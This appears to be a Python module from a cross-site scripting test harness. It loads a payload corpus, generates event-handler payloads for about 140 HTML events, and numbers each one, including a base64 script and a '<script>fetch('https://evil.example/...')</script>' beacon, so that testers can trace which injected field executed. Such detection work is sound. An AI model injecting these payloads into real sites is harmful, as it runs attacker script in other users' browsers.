"""Attacks on readers of a page: what strangers write so that it runs, or so that a browser asks their server.

Each is numbered by the field that it is sent through and by itself, and calls `xss(number)` or asks for
https://evil.example/number: whoever hears of it knows what got where.
"""

import base64
import re
from dataclasses import dataclass
from functools import cache
from pathlib import Path

CORPUS = Path(__file__).parent / "corpus" / "attacks"
EVIL = "evil.example"
_STEP = 1_000  # more than there are attacks

# What an element can be told to run, by the HTML Standard and by Chromium; then what only other elements, other readers
# and former browsers listen to.
EVENTS = [
    "abort",
    "animationcancel",
    "animationend",
    "animationiteration",
    "animationstart",
    "auxclick",
    "beforecopy",
    "beforecut",
    "beforeinput",
    "beforepaste",
    "beforetoggle",
    "blur",
    "cancel",
    "canplay",
    "canplaythrough",
    "change",
    "click",
    "close",
    "command",
    "contentvisibilityautostatechange",
    "contextlost",
    "contextmenu",
    "contextrestored",
    "copy",
    "cuechange",
    "cut",
    "dblclick",
    "drag",
    "dragend",
    "dragenter",
    "dragleave",
    "dragover",
    "dragstart",
    "drop",
    "durationchange",
    "emptied",
    "ended",
    "error",
    "focus",
    "focusin",
    "focusout",
    "formdata",
    "gotpointercapture",
    "input",
    "invalid",
    "keydown",
    "keypress",
    "keyup",
    "load",
    "loadeddata",
    "loadedmetadata",
    "loadstart",
    "lostpointercapture",
    "mousedown",
    "mouseenter",
    "mouseleave",
    "mousemove",
    "mouseout",
    "mouseover",
    "mouseup",
    "mousewheel",
    "paste",
    "pause",
    "play",
    "playing",
    "pointercancel",
    "pointerdown",
    "pointerenter",
    "pointerleave",
    "pointermove",
    "pointerout",
    "pointerover",
    "pointerrawupdate",
    "pointerup",
    "progress",
    "ratechange",
    "reset",
    "resize",
    "scroll",
    "scrollend",
    "scrollsnapchange",
    "securitypolicyviolation",
    "seeked",
    "seeking",
    "select",
    "selectionchange",
    "selectstart",
    "slotchange",
    "stalled",
    "submit",
    "suspend",
    "timeupdate",
    "toggle",
    "touchcancel",
    "touchend",
    "touchmove",
    "touchstart",
    "volumechange",
    "waiting",
    "wheel",
]
ELSEWHERE = [
    "afterprint",
    "afterscriptexecute",
    "beforematch",
    "beforeprint",
    "beforescriptexecute",
    "beforeunload",
    "begin",
    "bounce",
    "dragexit",
    "end",
    "filterchange",
    "finish",
    "fullscreenchange",
    "gesturestart",
    "hashchange",
    "languagechange",
    "loadend",
    "message",
    "messageerror",
    "offline",
    "online",
    "pagehide",
    "pagereveal",
    "pageshow",
    "pageswap",
    "popstate",
    "propertychange",
    "readystatechange",
    "rejectionhandled",
    "repeat",
    "search",
    "show",
    "start",
    "storage",
    "transitioncancel",
    "transitionend",
    "transitionrun",
    "transitionstart",
    "unhandledrejection",
    "unload",
    "webkitanimationend",
    "webkitmouseforcechanged",
    "webkittransitionend",
    "zoom",
]


@dataclass(frozen=True, slots=True)
class Attack:
    """What is sent. A `live` one runs in Chromium by itself, or when it is poked."""

    index: int
    text: str
    live: bool

    def numbered(self, place: int = 0) -> str:
        """Return it with the number that it has in this field."""
        number = place * _STEP + self.index
        call = f"xss({number})"
        asks = f"<script>fetch('https://{EVIL}/{number}')</script>"
        words = {
            "BASE64": base64.b64encode(f"<script>{call}</script>".encode()).decode(),
            "REQUEST64": base64.b64encode(asks.encode()).decode(),
            "CODES": ",".join(str(ord(character)) for character in call),
            "NUMBER": str(number),
            "AWAY": str(number),
            "RUN": call,
        }
        if "data:text/javascript;base64" in self.text:
            words["BASE64"] = base64.b64encode(call.encode()).decode()
        return re.sub("|".join(sorted(words, key=len, reverse=True)), lambda found: words[found[0]], self.text)


@cache
def attacks() -> tuple[Attack, ...]:
    """Read all of them, in the order of their files, then one for each event."""
    lines = [(line, name == "live") for name in ("live", "dead", "site") for line in _lines(CORPUS / f"{name}.txt")]
    events = [(f"<i on{event}=RUN tabindex=1>poke</i>", event in EVENTS) for event in (*EVENTS, *ELSEWHERE)]
    return tuple(Attack(index, text, live) for index, (text, live) in enumerate([*lines, *events]))


def which(number: int) -> tuple[int, Attack]:
    """Return the field and the attack of a number."""
    return number // _STEP, attacks()[number % _STEP]


def _lines(path: Path) -> list[str]:
    lines = path.read_text(encoding="ascii").splitlines()
    return [line.encode().decode("unicode_escape") for line in lines if line and not line.startswith("# ")]
